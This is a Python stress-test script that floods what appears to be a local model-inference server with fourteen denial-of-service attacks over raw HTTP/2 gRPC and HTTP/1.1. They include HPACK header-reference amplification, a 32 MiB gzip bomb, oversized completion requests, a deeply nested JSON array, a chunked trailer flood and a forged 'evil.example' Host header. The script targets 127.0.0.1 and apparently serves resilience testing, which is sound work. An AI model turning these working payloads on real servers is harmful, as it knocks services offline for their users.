#!/usr/bin/env python3
"""Many hostile connections at a stated rate: each repeats one attack for as long as it lasts, and comes back when it is
closed. `--sink` sends the same bytes to a program that reads and drops them, which is what the sending itself costs.

  flood.py --http PORT --grpc PORT [--connections N] [--bytes-per-second N] [--seconds S]
  flood.py --sink PORT [...]
  flood.py --serve-sink              prints its port, and reads until it is ended
"""
import argparse
import contextlib
import gzip
import itertools
import json
import selectors
import socket
import sys
import time

import raw_http2 as http2
from raw_http2 import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, WINDOW_UPDATE, field, frame

TICK_S = 0.02
COME_BACK_S = 0.2
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def streams():
    return itertools.count(1, 2)


def start(settings=b""):
    return PREFACE + frame(SETTINGS, 0, 0, settings)


def data(stream, payload, end):
    """A message in frames of at most 16 KiB."""
    pieces = [payload[at:at + 16_384] for at in range(0, len(payload), 16_384)]
    return b"".join(frame(DATA, END_STREAM if end and piece is pieces[-1] else 0, stream, piece) for piece in pieces)


def header_references():
    yield start() + frame(HEADERS, END_HEADERS, 1, http2.request("/x") + http2.literal("a", "v" * 4000, True))
    head = http2.request("/x")
    block = head + bytes((http2.FIRST_DYNAMIC,)) * (16_384 - len(head))
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, block)


def held_headers():
    yield start()
    for stream in streams():
        more = http2.literal("a", "v" * 4000, True) if stream == 1 else bytes((http2.FIRST_DYNAMIC,)) * 15
        yield frame(HEADERS, END_HEADERS, stream, http2.request(WATCH) + more) + frame(DATA, END_STREAM, stream, http2.message())


def resets_of_the_server():
    yield start()
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, http2.request(WATCH)) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")


def long_errors():
    yield start()
    chat = field(1, b"demo") + field(2, field(1, b"x" * 70_000) + field(2, b"a"))
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, http2.request("/quire.v1.Inference/Chat")) + data(stream, http2.message(chat), True)


def echoes():
    yield start(b"\0\4\0\0\0\0")
    question = http2.message(field(3, b"x" * (1 << 20)))
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, http2.request(REFLECTION)) + \
            data(stream, question, False)


def compressed():
    yield start()
    packed = gzip.compress(bytes(32 << 20))
    message = b"\1" + len(packed).to_bytes(4, "big") + packed
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, http2.request("/inference.GRPCInferenceService/ModelStreamInfer",
                                                                **{"grpc-encoding": "gzip"})) + data(stream, message * 4, True)


def post(path, body, head=b""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    return (b"POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n\r\n"
            % (path.encode(), head, len(body))) + body


def again(request):
    def attack():
        while True:
            yield request
    return attack


BOMB = {"model": "demo", "max_tokens": 1, "n": 16, "prompt": [[1]] * 1024, "stop": [f"{i:0256d}" for i in range(16)]}
TREE = b'{"model":"demo","messages":[{"role":"user","content":"x"}],"metadata":[' + b"0," * (1 << 19) + b"0]}"
TEXT = {"model": "demo", "prompt": "a b c d " * (1 << 17), "return_token_strs": True}
TRAILERS = (b"POST /v1/models HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n" +
            b"".join(b"x-%d: %s\r\n" % (i, b"v" * 100) for i in range(100)) + b"\r\n")

# Name → (on which port, what is sent, whether answers are read).
ATTACKS = {
    "header references": ("grpc", header_references, True),
    "held headers": ("grpc", held_headers, True),
    "resets of the server's own": ("grpc", resets_of_the_server, True),
    "long errors": ("grpc", long_errors, True),
    "echoes of reflection": ("grpc", echoes, True),
    "compressed messages": ("grpc", compressed, True),
    "unread metrics": ("http", again(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"), False),
    "foreign hosts": ("http", again(b"GET /fleet HTTP/1.1\r\nHost: evil.example\r\n\r\n"), True),
    "choices": ("http", again(post("/v1/completions", BOMB)), True),
    "JSON trees": ("http", again(post("/v1/chat/completions", TREE)), True),
    "unread tokens": ("http", again(post("/tokenize", TEXT)), False),
    "long texts": ("http", again(post("/v1/completions", {**TEXT, "max_tokens": 1})), True),
    "trailers": ("http", again(TRAILERS), True),
    "silence": ("http", again(b""), True),
}


class Hostile:
    """One connection that repeats its attack; a new one when it is closed."""

    def __init__(self, name, ports, rate):
        self.name, self.rate = name, rate
        where, self.attack, self.reads = ATTACKS[name]
        self.address = ("127.0.0.1", ports[where])
        self.socket, self.sent, self.closed, self.due = None, 0, 0, 0.0

    def open(self, now):
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 14)
        self.socket.setblocking(False)
        self.socket.connect_ex(self.address)
        self.pieces, self.waiting = self.attack(), b""
        self.begin, self.sent_here = now, 0

    def close(self, now):
        self.socket.close()
        self.socket, self.due = None, now + COME_BACK_S
        self.closed += 1

    def step(self, now):
        if self.socket is None:
            if now >= self.due:
                self.open(now)
            return
        try:
            if self.reads:
                with contextlib.suppress(BlockingIOError):
                    while True:
                        got = self.socket.recv(1 << 16)
                        if not got:
                            return self.close(now)
                        if len(got) < 1 << 16:
                            break
            room = int((now - self.begin) * self.rate) - self.sent_here
            while room > 0:
                if not self.waiting:
                    self.waiting = next(self.pieces)
                    if not self.waiting:
                        return None
                done = self.socket.send(self.waiting[:room])
                self.waiting, room = self.waiting[done:], room - done
                self.sent += done
                self.sent_here += done
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            self.close(now)
        return None


def flood(ports, connections, rate, seconds):
    names = itertools.islice(itertools.cycle(ATTACKS), connections)
    hostile = [Hostile(name, ports, rate) for name in names]
    begin = time.monotonic()
    while (now := time.monotonic()) < begin + seconds:
        for one in hostile:
            one.step(now)
        time.sleep(max(0.0, now + TICK_S - time.monotonic()))
    for one in hostile:
        if one.socket is not None:
            one.socket.close()
    return {"bytes sent": sum(one.sent for one in hostile), "connections closed by the server": sum(one.closed for one in hostile)}


def serve_sink():
    listener = socket.create_server(("127.0.0.1", 0), backlog=1024)
    listener.setblocking(False)
    print(json.dumps({"sink": listener.getsockname()[1]}), flush=True)
    ready = selectors.DefaultSelector()
    ready.register(listener, selectors.EVENT_READ)
    while True:
        for key, _ in ready.select():
            if key.fileobj is listener:
                accepted, _ = listener.accept()
                accepted.setblocking(False)
                ready.register(accepted, selectors.EVENT_READ)
                continue
            try:
                got = key.fileobj.recv(1 << 16)
            except OSError:
                got = b""
            if not got:
                ready.unregister(key.fileobj)
                key.fileobj.close()


def main():
    parser = argparse.ArgumentParser(prog="flood.py")
    parser.add_argument("--http", type=int)
    parser.add_argument("--grpc", type=int)
    parser.add_argument("--sink", type=int)
    parser.add_argument("--serve-sink", action="store_true")
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--bytes-per-second", type=int, default=65_536, help="of each connection")
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()
    if args.serve_sink:
        serve_sink()
    ports = {"http": args.sink or args.http, "grpc": args.sink or args.grpc}
    if None in ports.values():
        parser.error("give --http and --grpc, or --sink")
    print(json.dumps(flood(ports, args.connections, args.bytes_per_second, args.seconds)))


if __name__ == "__main__":
    sys.exit(main())
